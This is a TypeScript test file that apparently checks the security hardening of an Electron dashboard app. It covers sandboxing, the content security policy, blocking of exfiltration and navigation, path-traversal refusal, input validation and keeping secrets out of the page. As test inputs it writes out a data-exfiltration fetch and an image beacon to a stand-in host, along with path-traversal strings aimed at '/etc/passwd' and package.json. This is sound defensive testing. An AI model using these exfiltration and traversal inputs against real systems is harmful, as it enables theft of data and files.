import { afterAll, beforeAll, expect, test } from 'vitest';
import { openSettings } from '../browser/settings-page.ts';
import { until } from '../until.ts';
import { callFromPage, snapshotFromPage } from './call-from-page.ts';
import { type DoubleHost, startDoubleHost } from './double-host.ts';
import { describeOnDesktop, describeOnDouble, describeOnHosts } from './hosts.ts';
import type { RunningHost } from './journey-host.ts';

const canary = 'canary-in-a-secret-4711';
/** Nothing listens there; the page has no need of it. */
const backendUrl = 'http://127.0.0.1:1';
const secrets = `exporters:
  influxdb:
    enabled: true
    url: ${backendUrl}
    token: ${canary}-token
  otlp:
    enabled: true
    endpoint: ${backendUrl}
    headers:
      authorization: ${canary}-header
`;

describeOnHosts('a script that came into the page', (journeyHost) => {
  let host: RunningHost;
  beforeAll(async () => {
    host = await journeyHost.start({ config: secrets, backendUrl });
  });
  afterAll(() => host?.stop());
  const page = async () => (await host.dashboard()).page;

  test('finds nothing of Node or of the desktop but the contract', async () => {
    const found = await (await page()).evaluate(() => {
      const names = [
        'require',
        'process',
        'module',
        'exports',
        'Buffer',
        'global',
        '__dirname',
        'electron',
        'ipcRenderer',
      ];
      const bridge = (globalThis as { llamaProxy?: object }).llamaProxy;
      return {
        globals: names.filter((name) => name in globalThis),
        bridge: bridge === undefined ? null : { names: Object.keys(bridge), isFrozen: Object.isFrozen(bridge) },
      };
    });
    expect(found).toStrictEqual({
      globals: [],
      bridge: host.window === null ? null : { names: ['call', 'subscribe'], isFrozen: true },
    });
  });

  test('cannot run text as code, nor bring more code in', async () => {
    const outcome = await (await page()).evaluate(async () => {
      const attempt = (act: () => unknown): string => {
        try {
          return String(act());
        } catch (error) {
          return (error as Error).name;
        }
      };
      const marked = globalThis as { ran?: string[] };
      marked.ran = [];
      const inline = document.createElement('script');
      inline.textContent = "globalThis.ran.push('inline')";
      document.body.append(inline);
      const foreign = document.createElement('script');
      foreign.src = 'https://elsewhere.test/script.js';
      const isRefused = new Promise<boolean>((resolve) => {
        foreign.onerror = () => resolve(true);
        foreign.onload = () => resolve(false);
      });
      document.body.append(foreign);
      setTimeout("globalThis.ran.push('timer')");
      // What the test runs itself is free of the page's policy; what comes of it later is not.
      const compiled = await new Promise<string>((resolve) => {
        setTimeout(() => resolve(attempt(() => new Function('return 1')())));
      });
      return { compiled, isForeignRefused: await isRefused, ran: marked.ran };
    });
    expect(outcome).toStrictEqual({ compiled: 'EvalError', isForeignRefused: true, ran: [] });
  });

  test('cannot send what it read to another site', async () => {
    const outcomes = await (await page()).evaluate(async () => {
      const sent = await fetch('https://elsewhere.test/?secret').then(
        () => 'sent',
        () => 'refused',
      );
      const drawn = await new Promise<string>((resolve) => {
        const picture = new Image();
        picture.onload = () => resolve('drawn');
        picture.onerror = () => resolve('refused');
        picture.src = 'https://elsewhere.test/pixel.png';
      });
      return [sent, drawn];
    });
    expect(outcomes).toStrictEqual(['refused', 'refused']);
  });

  test('cannot read files beside the page', async () => {
    const statuses = await (await page()).evaluate(async () => {
      const paths = [
        '/../package.json',
        '/%2e%2e/%2e%2e/package.json',
        '/..%2f..%2fpackage.json',
        '/assets/..%5c..%5c..%5cpackage.json',
        '//etc/passwd',
        '/%00/index.html',
      ];
      return Promise.all(
        paths.map((path) =>
          fetch(location.origin + path).then(
            async (response) => (response.ok ? `read ${path}: ${(await response.text()).slice(0, 40)}` : 'refused'),
            () => 'refused',
          ),
        ),
      );
    });
    expect(new Set(statuses)).toStrictEqual(new Set(['refused']));
  });

  test.each([
    ['a command that there is not', 'no.such', {}, 'UNKNOWN_COMMAND'],
    ['a name of every object', 'constructor', {}, 'UNKNOWN_COMMAND'],
    ['the wrong type', 'requests.list', { limit: 'all' }, 'INPUT_INVALID'],
    ['no object at all', 'requests.get', null, 'INPUT_INVALID'],
    ['a name without end', 'requests.get', { id: 'x'.repeat(2000) }, 'INPUT_INVALID'],
    ['a text without end', 'config.checkText', { text: 'x'.repeat(1_000_001) }, 'INPUT_INVALID'],
    [
      'more changes than a form has',
      'config.patch',
      { changes: Array(201).fill({ path: ['a'], value: 1 }) },
      'INPUT_INVALID',
    ],
  ])('is refused %s', async (_what, name, input, code) => {
    expect(await callFromPage(await page(), name, input)).toMatchObject({ ok: false, error: { code } });
  });

  test('finds no secret: not in the document, the storage, the feed, nor in any answer', async () => {
    const dashboard = await host.dashboard();
    await (await openSettings(dashboard)).openText();
    const answers = await Promise.all(
      [
        ['config.get', {}],
        ['config.text', {}],
        ['config.preview', { changes: [{ path: ['server', 'instance'], value: 'x' }] }],
        ['status.get', {}],
        ['exporters.list', {}],
        ['exporters.test', { id: 'influxdb' }],
        ['clients.snippets', {}],
      ].map(async ([name, input]) => JSON.stringify(await callFromPage(dashboard.page, name as string, input))),
    );
    const document = await dashboard.page.evaluate(() =>
      [
        globalThis.document.documentElement.outerHTML,
        ...[...globalThis.document.querySelectorAll('input, textarea')].map(
          (field) => (field as HTMLInputElement).value,
        ),
        JSON.stringify(localStorage),
        JSON.stringify(sessionStorage),
        globalThis.document.cookie,
      ].join('\n'),
    );
    const all = [...answers, document, await snapshotFromPage(dashboard.page)].join('\n');
    expect(all).toContain('influxdb');
    expect(all).not.toContain(canary);
  });
});

describeOnDesktop('a page that would leave', (journeyHost) => {
  let host: RunningHost;
  beforeAll(async () => {
    host = await journeyHost.start({ config: '', backendUrl });
  });
  afterAll(() => host?.stop());

  test('stays where it is, and every attempt is in the log', async () => {
    const { page, open } = await host.dashboard();
    const address = page.url();
    await page.evaluate(() => {
      location.href = 'https://elsewhere.test/leave';
    });
    await page.evaluate(() => void window.open('https://elsewhere.test/popup'));
    await until('both to be refused', () => {
      return (
        (/the way to https:\/\/elsewhere\.test\/leave/.test(host.log()) && /a window for https:/.test(host.log())) ||
        undefined
      );
    });
    await until('no window but ours', () => page.context().pages().length === 1 || undefined);
    expect(page.url()).toBe(address);
    await open('Requests');
  });
});

describeOnDouble('messages of a frame that is not our page', (browser) => {
  let host: DoubleHost;
  let id: number;
  beforeAll(async () => {
    host = await startDoubleHost(browser(), { config: '', backendUrl });
    [{ id } = { id: 0 }] = await host.double.program.call('windows');
  });
  afterAll(() => host?.stop());

  test.each([
    { url: 'https://elsewhere.test/', isMain: true },
    { url: 'https://elsewhere.test/', isMain: false },
    { url: 'app://llama-proxy/', isMain: false },
    { url: 'app://another/', isMain: true },
    { url: 'app://llama-proxy.elsewhere.test/', isMain: true },
    { url: 'about:blank', isMain: true },
  ])('$url as main frame: $isMain is not answered', async (frame) => {
    const reply = await host.double.program.call('invoke', id, frame, 'contract:call', ['status.get', {}]);
    expect(reply).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
  });

  test('our own page is', async () => {
    const frame = { url: 'app://llama-proxy/#/now', isMain: true };
    const reply = await host.double.program.call('invoke', id, frame, 'contract:call', ['status.get', {}]);
    expect(reply).toMatchObject({ ok: true });
  });

  test('the window was asked for with every door shut', async () => {
    const [window] = await host.double.program.call('windows');
    expect(window?.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      webviewTag: false,
      devTools: false,
    });
  });
});
